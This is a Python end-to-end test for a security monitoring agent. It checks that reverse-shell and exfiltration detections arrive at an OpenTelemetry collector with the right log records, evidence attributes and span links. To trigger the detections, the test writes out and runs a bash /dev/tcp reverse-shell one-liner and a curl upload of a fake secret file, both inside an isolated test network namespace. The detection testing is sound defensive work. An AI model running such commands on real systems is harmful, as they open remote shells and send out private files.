"""reverse_shell and exfiltration end to end: the agent as a subprocess, real tools in a test
namespace, OTLP through a real collector (rotel) to a receiver in this test.

Asserted on what arrives: the reverse shell's log record (event otelpeers.detection, severity
FATAL for critical, resource = the shell process, evidence naming the socket holder, trace
and span id of the connection), the exfiltration's log record and its span event on the
upload's connection span; the benign upload yields neither.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from agent_proc import AgentProcess
from otlp_sink import OtlpSink, span_attrs

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "kernel"))
from harness import netns  # noqa: E402
from test_detect_process_rules import (  # noqa: E402
    LISTENER,
    UPLOAD_SERVER,
    children,
    driven,
)

from otelpeers.config import Config  # noqa: E402

pytestmark = [pytest.mark.kernel, pytest.mark.e2e]

ROOT = Path(__file__).resolve().parents[2]
PYTHON = sys.executable
EVENT = "otelpeers.detection"
EVIDENCE = "otelpeers.detection.evidence."


def _attrs(record) -> dict:  # noqa: ANN001
    return span_attrs(record)


def _records(sink: OtlpSink, rule: str, pids: set[int]) -> list:
    return [(res, lr) for res, lr in sink.logs()
            if _attrs(lr).get("security_rule.name") == rule and res.get("process.pid") in pids]


def _start_agent(tmp_path: Path, endpoint: str, secrets: Path) -> AgentProcess:
    prefixes = [*Config().process.sensitive_prefixes, f"{secrets}/"]
    cfg = tmp_path / "agent.yaml"
    cfg.write_text(
        "kernel:\n  stats_interval_s: 1.0\n"
        f"process:\n  sensitive_prefixes: {json.dumps(prefixes)}\n"
        f"detect:\n  state_dir: {tmp_path / 'state'}\n"
        f"export:\n  schedule_delay_s: 0.2\n  otlp:\n    endpoint: {endpoint}\n")
    return AgentProcess(tmp_path, cfg.read_text())


def _stop_agent(agent: AgentProcess) -> None:
    rc, _, err = agent.stop()
    assert rc == 0, err


def test_reverse_shell_and_exfiltration_reach_the_collector(tmp_path: Path, rotel,
                                                             sink: OtlpSink) -> None:
    # A short directory: the kernel matches sensitive prefixes on their first 64 bytes.
    secrets = Path(tempfile.mkdtemp(prefix="otpx-", dir="/tmp"))
    try:
        _run(tmp_path, rotel, sink, secrets)
    finally:
        shutil.rmtree(secrets, ignore_errors=True)


def _run(tmp_path: Path, rotel, sink: OtlpSink, secrets: Path) -> None:  # noqa: ANN001
    secret = secrets / "id_backup"
    secret.write_bytes(b"s" * 250_000)
    blob = tmp_path / "blob.bin"
    blob.write_bytes(b"b" * 250_000)
    agent = _start_agent(tmp_path, rotel.grpc_endpoint, secrets)
    try:
        with netns() as ns:
            # ---- a /dev/tcp reverse shell -------------------------------------------------
            with driven(ns.cmd(PYTHON, "-c", LISTENER, ns.ns_ip)) as lst:
                (port,) = lst.expect("READY")
                sh = subprocess.Popen(
                    ["bash", "-c", f"bash -i >& /dev/tcp/{ns.ns_ip}/{port} 0>&1"],
                    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL)
                lst.expect("ACCEPTED")
                shells = {sh.pid, *children(sh.pid)}
                got = sink.wait_for(lambda: _records(sink, "reverse_shell", shells), bool)
                assert got, f"no reverse_shell log record; logs: {len(sink.logs())}"
                lst.go()
                lst.expect("CLOSED")
                sh.wait(15)
            # ---- an upload of an ordinary file, then of a sensitive one ----------------
            with driven(ns.cmd(PYTHON, "-c", UPLOAD_SERVER, ns.ns_ip)) as srv:
                (uport,) = srv.expect("READY")
                url = f"http://{ns.ns_ip}:{uport}/up"
                runs = {}
                for name, path in (("benign", blob), ("bad", secret)):
                    c = subprocess.Popen(["curl", "-s", "-o", "/dev/null", "-H", "Expect:",
                                          "--data-binary", f"@{path}", url])
                    assert c.wait(30) == 0
                    runs[name] = c.pid
                bad = runs["bad"]

                def bad_span(spans: list) -> list:
                    return [(r, s) for r, s in spans if r.get("process.pid") == bad
                            and any(e.name == EVENT for e in s.events)]

                sink.wait_for(sink.spans, lambda sp: bool(bad_span(sp)))
                exfil = sink.wait_for(lambda: _records(sink, "exfiltration", {bad}), bool)
    finally:
        _stop_agent(agent)

    # The reverse shell: resource is the shell, evidence names who holds the socket.
    ((res, lr),) = got
    a = _attrs(lr)
    assert lr.event_name == EVENT and lr.severity_number == 21 and lr.severity_text == "CRITICAL"
    assert res["process.pid"] in shells and res["process.executable.name"] == "bash"
    assert a["security_rule.uuid"] == "1931d8d8-e29c-4ace-8857-0e0200425a69"
    assert a[EVIDENCE + "mode"] == "socket_stdio" and a[EVIDENCE + "holder_pid"] in shells
    assert a["network.peer.address"] == ns.ns_ip and a["network.peer.port"] == int(port)
    assert "bash" in lr.body.string_value and ns.ns_ip in lr.body.string_value
    assert len(lr.trace_id) == 16 and any(lr.trace_id) and any(lr.span_id)
    # ... and the shell's connection span is the one the record points at.
    conn = [s for r, s in sink.spans() if s.span_id == lr.span_id]
    assert len(conn) == 1 and span_attrs(conn[0])["network.peer.port"] == int(port)

    # The exfiltration: a log record and a span event on the upload's connection span.
    ((eres, elr),) = exfil
    ea = _attrs(elr)
    assert eres["process.pid"] == bad and eres["service.name"] == "curl"
    assert ea[EVIDENCE + "file_path"] == str(secret) and ea[EVIDENCE + "bytes_sent"] >= 250_000
    ((_, span),) = bad_span(sink.spans())
    (event,) = [e for e in span.events if e.name == EVENT]
    assert span_attrs(event)["security_rule.name"] == "exfiltration"
    assert (elr.trace_id, elr.span_id) == (span.trace_id, span.span_id)
    assert span_attrs(span)["network.peer.address"] == ns.ns_ip
    # The benign upload: no detection of any rule.
    benign = runs["benign"]
    assert not [lr for res, lr in sink.logs() if res.get("process.pid") == benign]

